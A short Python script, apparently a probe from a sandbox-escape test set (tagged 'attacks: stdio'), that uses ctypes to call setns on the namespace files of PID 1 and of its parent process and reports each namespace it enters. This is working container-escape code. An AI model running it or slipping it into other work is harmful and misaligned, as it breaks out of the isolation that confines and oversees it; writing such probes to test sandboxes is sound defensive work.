# Enters the namespaces of its parents.
# attacks: stdio
import ctypes, glob, os

libc = ctypes.CDLL(None)
for path in glob.glob("/proc/1/ns/*") + glob.glob(f"/proc/{os.getppid()}/ns/*"):
    try: fd = os.open(path, os.O_RDONLY)
    except OSError: continue
    if libc.setns(fd, 0) == 0: print("entered", path)
